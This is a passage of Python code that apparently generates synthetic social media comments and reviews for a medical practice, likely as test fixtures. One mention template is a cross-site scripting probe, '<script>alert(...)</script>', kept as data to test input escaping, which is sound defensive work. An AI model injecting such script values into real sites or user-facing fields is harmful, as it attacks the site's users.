    "My knee replacement at {handle} was the best decision I made this year.",
    "Thanks {handle} for the free blood pressure check at the fair 👏",
    "{handle} rude front desk again. Third time.",
    "<script>alert('{handle}')</script>",
    "{handle} {arabic}",
)
PRAISE = (
    "Wonderful doctors and a friendly front desk. Highly recommend.",
    "Always on time, always kind. Best practice in town.",
    "Clean office, easy parking, and they actually listen.",
    "Five stars for the nurses ❤️",
    "Dr. Patel is thorough and never rushes you.",
)
THREAD_REPLIES = (
    "Same here, they were great with me too.",
    "Call them, they answered me within a day.",
    "Totally agree!",
    "Sorry you had that experience 😕",
    "Which office was this?",
)
OWNER_REPLIES = (
    "Thank you for your kind words! We look forward to seeing you again.",
    "Thank you for your feedback. Please call our office so we can help.",
)


def long_text(rng: random.Random, platform: str) -> str:
    """About 5,000 characters (less where the platform takes less), as one long rant."""
    sentences = THANKS + QUESTIONS + COMPLAINTS
    limit = min(5_000, MAX_TEXT.get(platform, 5_000))
    parts: list[str] = []
    while sum(len(p) + 1 for p in parts) < limit - 120:
        parts.append(rng.choice(sentences))
    return " ".join(parts)[:limit]


def comment_text(rng: random.Random, platform: str) -> str:
    pool = rng.choices(
        ("thanks", "question", "complaint", "treatment", "hostile", "long"),
        weights=(33, 25, 12, 15, 12, 3),
    )[0]
    if pool == "long":
        return long_text(rng, platform)
    return rng.choice(
        {
            "thanks": THANKS,
            "question": QUESTIONS,
            "complaint": COMPLAINTS,
            "treatment": TREATMENTS,
            "hostile": HOSTILE,
        }[pool]
    )


def mention_text(rng: random.Random, handle: str, platform: str) -> str:
    prefix = "" if platform in ("facebook", "linkedin") else "@"
    return rng.choice(MENTIONS).format(handle=prefix + handle, arabic=ARABIC)


def review_text(rng: random.Random, rating: int, platform: str) -> str:
    if rating <= 2:
        pool = (*COMPLAINTS, "Front desk was rude and the doctor seemed rushed.")
    elif rating == 3:
        pool = (*QUESTIONS[:2], "Good doctor, but the wait was long.")
    else:
        pool = PRAISE + TREATMENTS
    if rng.random() < 0.1:
        return rng.choice(HOSTILE)
    if rng.random() < 0.03:
        return long_text(rng, platform)
    return rng.choice(pool)


def edited_text(rng: random.Random, text: str, platform: str) -> str:
    if not text:
        return rng.choice(THANKS)
    addition = rng.choice((" (edited: they called me back, thank you)", " EDIT: still waiting."))
    limit = MAX_TEXT.get(platform, 5_000)
    return (text + addition)[:limit] if len(text) + len(addition) > limit else text + addition
